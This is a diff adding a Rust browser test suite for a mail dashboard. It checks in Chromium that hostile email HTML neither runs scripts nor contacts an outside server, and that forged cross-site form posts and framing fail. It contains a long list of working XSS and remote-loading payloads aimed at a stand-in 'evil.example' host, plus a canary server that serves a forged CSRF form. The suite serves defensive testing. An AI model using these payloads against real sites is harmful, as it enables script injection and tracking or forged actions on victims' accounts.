@@ -1,0 +1,421 @@
+//! The dashboard in Chromium: nothing of a mail runs or connects, the pages are accessible, and they work with and without JavaScript.
+//!
+//! The judges are Chromium and axe-core. `tests/dashboard/browser/run.js` drives them.
+
+use std::net::SocketAddr;
+use std::process::Stdio;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use axum::Router;
+use axum::extract::{Path, State};
+use axum::response::Html;
+use axum::routing::{get, post};
+use postrider::dashboard::{Access, Dashboard};
+use postrider::transport::Attachment;
+use postrider::{DeliveryId, Email, MemoryStore, Outbox, State as DeliveryState};
+use serde_json::{Value, json};
+use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+use tokio::net::TcpListener;
+use tokio::process::Command;
+
+use crate::fixture::{email, mail};
+use crate::hostile::{self, TEXTS};
+use crate::site::Site;
+
+/// The HTML of hostile mails. `CANARY` is the address of a server that must not hear of it.
+const HTML: [&str; 54] = [
+    "<script>pwned()</script>",
+    "<script type=module>pwned()</script>",
+    "<script src='CANARY/x.js'></script>",
+    "<img src=x onerror=pwned()>",
+    "<svg onload=pwned()></svg>",
+    "<svg><script>pwned()</script></svg>",
+    "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
+    "<body onload=pwned()>",
+    "<iframe src='javascript:parent.pwned()'></iframe>",
+    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
+    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
+    "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
+    "<details open ontoggle=pwned()>x</details>",
+    "<input autofocus onfocus=pwned()>",
+    "<video><source src=x onerror=pwned()></video>",
+    "<audio src=x onerror=pwned()></audio>",
+    "<style>@keyframes x{}</style><div style='animation:x 1s' onanimationstart=pwned()>x</div>",
+    "<style>p{transition:color 1s}</style><p ontransitionrun=pwned() style='color:red'>x</p>",
+    "<marquee onstart=pwned()>x</marquee>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
+    "</iframe></body></html><script>top.pwned()</script>",
+    "<img src='CANARY/img'>",
+    "<img srcset='CANARY/srcset 1x'>",
+    "<picture><source srcset='CANARY/picture'><img src=x></picture>",
+    "<div style='background:url(CANARY/background)'>x</div>",
+    "<ul style='list-style:url(CANARY/list)'><li>x</ul>",
+    "<style>@import url(CANARY/import);</style>",
+    "<style>@font-face{font-family:f;src:url(CANARY/font)}p{font-family:f}</style><p>x",
+    "<style>p::before{content:url(CANARY/content)}</style><p>x",
+    "<style>p{cursor:url(CANARY/cursor),auto}</style><p>x",
+    "<link rel=stylesheet href='CANARY/stylesheet'>",
+    "<link rel=preconnect href='CANARY'>",
+    "<LINK REL=PRELOAD AS=image HREF='CANARY/preload'>",
+    "<link rel=prefetch href='CANARY/prefetch'>",
+    "<link rel=modulepreload href='CANARY/module'>",
+    "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
+    "<base href='CANARY/'><img src=relative.png>",
+    "<iframe src='CANARY/iframe'></iframe>",
+    "<object data='CANARY/object'></object>",
+    "<embed src='CANARY/embed'>",
+    "<video src='CANARY/video' autoplay muted></video>",
+    "<video poster='CANARY/poster'></video>",
+    "<audio src='CANARY/audio' autoplay></audio>",
+    "<video><track default src='CANARY/track'></video>",
+    "<input type=image src='CANARY/input'>",
+    "<table background='CANARY/table'><tr><td>x</table>",
+    "<svg><image href='CANARY/svg' width=9 height=9 /></svg>",
+    "<svg><filter id=f><feImage href='CANARY/filter' /></filter><rect width=9 height=9 filter='url(#f)' /></svg>",
+    "<frameset><frame src='CANARY/frame'></frameset>",
+    "<form action='CANARY/form'><input name=a></form><script>document.forms[0].submit()</script>",
+    "<script>fetch('CANARY/fetch')</script>",
+    "<script>top.location='CANARY/top'</script>",
+    "<script>navigator.sendBeacon('CANARY/beacon')</script>",
+];
+
+/// The same, but they need a click.
+const CLICKS: [&str; 3] = [
+    "<a href='CANARY/link' style='font-size:60px'>click</a>",
+    "<a href='CANARY/blank' target=_blank style='font-size:60px' ping='CANARY/ping'>click</a>",
+    "<a href='javascript:pwned()' style='font-size:60px'>click</a>",
+];
+
+/// A server that records who connects, and plays the part of another site.
+#[derive(Clone)]
+struct Canary {
+    address: SocketAddr,
+    connections: Arc<AtomicUsize>,
+    requests: Arc<Mutex<Vec<String>>>,
+}
+
+impl Canary {
+    async fn start(dashboard: SocketAddr, victim: DeliveryId) -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let address = listener.local_addr().unwrap();
+        let canary = Self { address, connections: Arc::default(), requests: Arc::default() };
+        let recorder = canary.clone();
+        tokio::spawn(async move {
+            loop {
+                let (stream, _) = listener.accept().await.unwrap();
+                recorder.connections.fetch_add(1, Ordering::SeqCst);
+                let recorder = recorder.clone();
+                tokio::spawn(async move {
+                    let mut stream = BufReader::new(stream);
+                    let mut line = String::new();
+                    let _ = stream.read_line(&mut line).await;
+                    let target = format!("http://{dashboard}/admin/mail/deliveries/{victim}/cancel");
+                    let body = match line.split(' ').nth(1) {
+                        Some("/forge") => format!(
+                            "<form method=post action='{target}'><input name=csrf value={:032}><input name=seen value=pending-1-0>\
+                             </form><script>document.forms[0].submit()</script>",
+                            0
+                        ),
+                        Some("/embed") => format!("<iframe src='{target}'></iframe>"),
+                        _ => String::new(),
+                    };
+                    recorder.requests.lock().unwrap().push(line);
+                    let head = "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\naccess-control-allow-origin: *";
+                    let reply = format!("{head}\r\ncontent-length: {}\r\n\r\n{body}", body.len());
+                    let _ = stream.get_mut().write_all(reply.as_bytes()).await;
+                });
+            }
+        });
+        canary
+    }
+
+    fn url(&self) -> String {
+        format!("http://evil.example:{}", self.address.port())
+    }
+
+    fn connections(&self) -> usize {
+        self.connections.load(Ordering::SeqCst)
+    }
+}
+
+/// A service that nests the dashboard, and serves the HTML of mails without any protection, as a control.
+async fn serve(outbox: &Outbox<MemoryStore>, controls: Vec<String>, connections: Arc<AtomicUsize>) -> SocketAddr {
+    let dashboard = Dashboard::new(outbox.clone())
+        .access(|_| async { Access::operate().by("Ada") })
+        .refresh_every(Duration::from_millis(200));
+    let control =
+        async |State(controls): State<Arc<Vec<String>>>, Path(number): Path<usize>| Html(controls[number].clone());
+    let count = async |State(count): State<Arc<AtomicUsize>>| count.load(Ordering::SeqCst).to_string();
+    let poke = async |State(outbox): State<Outbox<MemoryStore>>| outbox.enqueue(email()).await.unwrap().to_string();
+    let app = Router::new()
+        .nest_service("/admin/mail", dashboard.into_router())
+        .merge(Router::new().route("/control/{number}", get(control)).with_state(Arc::new(controls)))
+        .merge(Router::new().route("/connections", get(count)).with_state(connections))
+        .merge(Router::new().route("/poke", post(poke)).with_state(outbox.clone()));
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let address = listener.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+    address
+}
+
+fn variable(name: &str) -> String {
+    std::env::var(name)
+        .unwrap_or_else(|_| panic!("{name} is not set: run scripts/test, which starts scripts/servers/chromium.sh"))
+}
+
+/// Runs a plan in Chromium.
+async fn browse(mut plan: Value) -> Value {
+    plan["executable"] = json!(variable("POSTRIDER_TEST_BROWSER"));
+    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/dashboard/browser/run.js");
+    let mut node = Command::new("node");
+    node.arg(script).env("NODE_PATH", variable("POSTRIDER_TEST_BROWSER_NODE")).kill_on_drop(true);
+    let mut node = node.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
+    let mut stdin = node.stdin.take().unwrap();
+    stdin.write_all(plan.to_string().as_bytes()).await.unwrap();
+    drop(stdin);
+    let output = tokio::time::timeout(Duration::from_secs(500), node.wait_with_output()).await.unwrap().unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    serde_json::from_slice(&output.stdout).unwrap()
+}
+
+fn array<'a>(value: &'a Value, name: &str) -> &'a Vec<Value> {
+    value[name].as_array().unwrap_or_else(|| panic!("no {name}"))
+}
+
+/// A mail with this HTML, and with an inline image that would run a script.
+fn hostile_mail(html: &str) -> Email {
+    let image = "<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'><script>pwned()</script></svg>";
+    let image = Attachment::inline("image", "image.svg", "image/svg+xml", image.as_bytes().to_vec()).unwrap();
+    let html = format!("{html}<img src='cid:image'>");
+    mail().html(html).attach(image).build().unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[ignore = "needs Chromium"]
+async fn nothing_of_a_mail_runs_or_connects_in_chromium() {
+    let site = Site::new();
+    // Its address goes into the mails, so the canary is there first.
+    let victim = site.enqueue(email()).await;
+    let canary = Canary::start(SocketAddr::from(([127, 0, 0, 1], 9)), victim).await;
+    let filled = |html: &str| html.replace("CANARY", &canary.url());
+    let mut controls: Vec<String> = HTML.iter().chain(&CLICKS).map(|html| filled(html)).collect();
+    // A frame like that of the dashboard, but with scripts: it shows that the driver would notice a script in a frame.
+    controls.push("<iframe class=mail sandbox=allow-scripts srcdoc='<script>pwned()</script>'></iframe>".to_owned());
+    let address = serve(&site.outbox, controls.clone(), Arc::clone(&canary.connections)).await;
+
+    let (mut messages, mut frames, mut clicks, mut pages) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
+    let path = |id: DeliveryId, end: &str| format!("http://{address}/admin/mail/deliveries/{id}{end}");
+    for html in HTML {
+        let id = site.enqueue(hostile_mail(&filled(html))).await;
+        messages.push(path(id, "/message"));
+        // Also opened by itself, outside of the frame of the page.
+        frames.push(path(id, "/message.html"));
+    }
+    for html in CLICKS {
+        clicks.push(path(site.enqueue(mail().html(filled(html)).build().unwrap()).await, "/message"));
+    }
+    for text in TEXTS {
+        let id = hostile::plant(&site, text).await;
+        hostile::fail(&site, text).await;
+        pages.extend([
+            path(id, ""),
+            path(id, "/message?show=text"),
+            path(id, "/message?show=source"),
+            path(id, "/message?show=html"),
+        ]);
+    }
+    pages.push(format!("http://{address}/admin/mail/deliveries?state=dead"));
+    pages.push(format!("http://{address}/admin/mail/overview"));
+
+    let count = format!("http://{address}/connections");
+    let result = browse(json!({ "count": count, "messages": messages, "clicks": clicks, "pages": pages })).await;
+    let framed = browse(json!({ "count": count, "messages": frames })).await;
+    let all =
+        [array(&result, "messages"), array(&result, "clicks"), array(&result, "pages"), array(&framed, "messages")];
+    let all: Vec<_> = all.into_iter().flatten().collect();
+    assert_eq!(all.len(), 2 * HTML.len() + CLICKS.len() + 4 * TEXTS.len() + 2);
+    let connected: Vec<_> = all.iter().filter(|case| case["connections"] != 0).collect();
+    let requests = canary.requests.lock().unwrap().clone();
+    assert_eq!(canary.connections(), 0, "Chromium connected: {requests:?}, for {connected:#?}");
+    for case in &all {
+        assert_eq!(case["pwned"], 0, "a script ran: {case}");
+        assert_eq!(case["errors"], json!([]), "a script ran or the page's own failed: {case}");
+        assert_eq!(case["at"], case["url"], "the page was left");
+    }
+    assert!(array(&result, "messages").iter().all(|case| case["frames"].as_u64().unwrap() >= 2), "no frame was loaded");
+
+    // The control: without protection, nearly all of them run or connect.
+    let urls: Vec<_> = (0..controls.len()).map(|number| format!("http://{address}/control/{number}")).collect();
+    let result = browse(json!({ "count": count, "control": urls })).await;
+    let requests = canary.requests.lock().unwrap().clone();
+    let acted = |(number, case): &(usize, &Value)| {
+        // A case that only opens a connection has no path, and does not count.
+        let path = controls[*number].split(&canary.url()).nth(1).and_then(|rest| rest.split(['\'', ')', ' ']).next());
+        let path = path.filter(|path| path.len() > 1);
+        case["pwned"].as_u64().unwrap() > 0 || path.is_some_and(|path| requests.iter().any(|line| line.contains(path)))
+    };
+    let cases: Vec<_> = array(&result, "control").iter().enumerate().collect();
+    let effective = cases.iter().filter(|case| acted(case)).count();
+    let idle: Vec<_> = cases.iter().filter(|case| !acted(case)).map(|(number, _)| &controls[*number]).collect();
+    assert!(effective >= 40, "only {effective} cases do something without protection; these do not: {idle:#?}");
+    assert!(acted(cases.last().unwrap()), "the driver does not notice a script in a frame");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[ignore = "needs Chromium"]
+async fn the_pages_work_in_chromium_with_and_without_javascript() {
+    let site = Site::new();
+    let victim = site.enqueue(email()).await;
+    let address = serve(&site.outbox, Vec::new(), Arc::default()).await;
+    let canary = Canary::start(address, victim).await;
+    let base = format!("http://{address}/admin/mail");
+    // A host without HTTPS that is not this machine: Chromium sends no Sec-Fetch-Site, and Origin alone shows where a form comes from.
+    let insecure = format!("http://ops.example:{}/admin/mail", address.port());
+    let (first, second) = (site.enqueue(email()).await, site.enqueue(email()).await);
+    let plan = json!({
+        "base": base,
+        "evil": canary.url(),
+        "victim": victim.to_string(),
+        "poke": format!("http://{address}/poke"),
+        "keyboard": true,
+        "cancel": [{ "base": base, "id": first.to_string() }, { "base": format!("{insecure}/"), "id": second.to_string() }],
+    });
+    let result = browse(plan).await;
+    let state = async |id| site.outbox.get(id).await.unwrap().unwrap().state;
+
+    for (case, id) in array(&result, "cancel").iter().zip([first, second]) {
+        assert!(case["text"].as_str().unwrap().contains("The delivery is cancelled."), "{case}");
+        assert_eq!(state(id).await, DeliveryState::Cancelled, "{case}");
+    }
+    let attack = &result["attack"];
+    assert!(attack["forged"]["at"].as_str().unwrap().ends_with("/cancel"), "the form was not sent: {attack}");
+    assert!(attack["forged"]["text"].as_str().unwrap().contains("does not come from the dashboard"), "{attack}");
+    assert_eq!(state(victim).await, DeliveryState::Pending);
+    let embedded = array(attack, "embedded");
+    assert!(
+        embedded.iter().all(|url| !url.as_str().unwrap().contains("/admin/mail")),
+        "another site shows a page: {attack}"
+    );
+
+    let live = &result["live"];
+    for shown in ["shown", "shownAfterHidden", "shownAfterSelected", "shownAfterStopped"] {
+        assert_eq!(live[shown], true, "{shown}: {live}");
+    }
+    for not in ["shownWhileHidden", "shownWhileSelected", "shownWhileStopped"] {
+        assert_eq!(live[not], false, "{not}: {live}");
+    }
+    assert_eq!(live["requestsWhileHidden"], 0, "{live}");
+    assert_eq!(live["errors"], json!([]), "{live}");
+    let keyboard = &result["keyboard"];
+    assert_eq!(keyboard["first"], "Skip to the content");
+    assert_eq!(
+        (&keyboard["isVisible"], &keyboard["skipped"], &keyboard["withoutOutline"]),
+        (&json!(true), &json!("main"), &json!(0))
+    );
+}
+
+/// Deliveries in every state, for people to look at.
+async fn scenery(site: &Site) -> (DeliveryId, DeliveryId) {
+    let subjects =
+        ["Your order 1815 is on its way", "Reset your password", "Invoice for November", "Welcome to the shop"];
+    let templates = ["shipped", "password", "invoice", "welcome"];
+    let people =
+        ["ada@example.com", "grace@example.org", "alan@example.net", "edsger@example.com", "barbara@example.org"];
+    let numbered = |number: usize| {
+        let (kind, to) = (number % subjects.len(), people[number % people.len()]);
+        Email::builder()
+            .from("Shop <shop@example.com>")
+            .to(to)
+            .subject(subjects[kind])
+            .text("Hello")
+            .template_id(templates[kind])
+    };
+    for number in 0..40 {
+        site.enqueue(numbered(number).build().unwrap()).await;
+    }
+    site.drain(Vec::new()).await;
+    let mut dead = None;
+    for number in 0..7 {
+        let to = people[number % people.len()];
+        let reply = match number {
+            0..4 => format!("550 5.1.1 <{to}>: Recipient address rejected: User unknown in virtual mailbox table"),
+            4..6 => "552 5.2.2 The mailbox is full".to_owned(),
+            _ => "554 5.7.1 The message looks like spam".to_owned(),
+        };
+        dead = Some(site.dead(numbered(number).build().unwrap(), &reply).await);
+    }
+    site.held(numbered(1).build().unwrap()).await;
+    let logo = "<svg xmlns='http://www.w3.org/2000/svg' width='48' height='48'><circle cx='24' cy='24' r='22' fill='#3b7d5b'/></svg>";
+    let logo = Attachment::inline("logo", "logo.svg", "image/svg+xml", logo.as_bytes().to_vec()).unwrap();
+    let html = "<div style='font-family:sans-serif;max-width:30em'><img src='cid:logo' alt=''><h1>It is on its way</h1>\
+                <p>Dear Ada, we sent your order <b>1815</b> today. <a href='https://shop.example/1815'>Follow it</a>.</p></div>";
+    let invoice = Attachment::new("invoice.pdf", "application/pdf", vec![1; 48_000]).unwrap();
+    let order = numbered(0)
+        .cc("Grace <grace@example.org>")
+        .reply_to("help@example.com")
+        .html(html)
+        .attach(logo)
+        .attach(invoice);
+    let retried = site.enqueue(order.build().unwrap()).await;
+    site.drain(vec![
+        postrider::Failure::transient(postrider::Scope::Message, "451 4.7.1 Greylisted, try again in 5 minutes")
+            .with_reply("451 4.7.1 Greylisted, try again in 5 minutes"),
+    ])
+    .await;
+    for number in 0..3 {
+        let later = postrider::NewDelivery::new(numbered(number).build().unwrap()).send_in(Duration::from_secs(7_200));
+        site.enqueue(later).await;
+    }
+    let cancelled = site.enqueue(numbered(2).build().unwrap()).await;
+    let _ = site.outbox.cancel(cancelled).await.unwrap();
+    let report = postrider::store::RelayReport::new(postrider::store::RelayId::new(), 2, None);
+    postrider::Store::report(site.outbox.store(), &report).await.unwrap();
+    (dead.unwrap(), retried)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[ignore = "needs Chromium"]
+async fn the_pages_are_accessible() {
+    let site = Site::new();
+    let (dead, full) = scenery(&site).await;
+    let address = serve(&site.outbox, Vec::new(), Arc::default()).await;
+    let url = |path: &str| format!("http://{address}/admin/mail/{path}");
+    let urls = [
+        url("overview"),
+        url("deliveries"),
+        url("deliveries?state=dead&to=%40example.com"),
+        url("deliveries?since=yesterday"),
+        url(&format!("deliveries/{dead}")),
+        url(&format!("deliveries/{full}?done=unchanged")),
+        url(&format!("deliveries/{dead}/resend")),
+        url(&format!("deliveries/{full}/message")),
+        url(&format!("deliveries/{full}/message?show=source")),
+        url("nothing"),
+    ];
+    let mut plan = json!({ "accessibility": urls });
+    // `POSTRIDER_PICTURES=docs/dashboard` writes the pictures of the manual.
+    if let Ok(directory) = std::env::var("POSTRIDER_PICTURES") {
+        let picture = |name: &str, url: String, theme: &str, phone: bool| json!({ "name": name, "url": url, "theme": theme, "phone": phone });
+        plan["directory"] = json!(directory);
+        plan["pictures"] = json!([
+            picture("overview", url("overview"), "light", false),
+            picture("deliveries", url("deliveries?to=%40example.com"), "light", false),
+            picture("delivery", url(&format!("deliveries/{dead}")), "light", false),
+            picture("message", url(&format!("deliveries/{full}/message")), "light", false),
+            picture("overview-dark", url("overview"), "dark", false),
+            picture("delivery-phone", url(&format!("deliveries/{dead}")), "dark", true),
+        ]);
+    }
+    let result = browse(plan).await;
+    let checked = array(&result, "accessibility");
+    assert_eq!(checked.len(), 4 * urls.len());
+    let violating: Vec<_> = checked.iter().filter(|page| page["violations"] != json!([])).collect();
+    assert!(violating.is_empty(), "{violating:#?}");
+    for page in checked {
+        assert!(page["overflow"].as_i64().unwrap() <= 0, "the page is wider than the screen: {page}");
+        assert!(page["passes"].as_u64().unwrap() > 10, "axe checked nothing: {page}");
+    }
+}
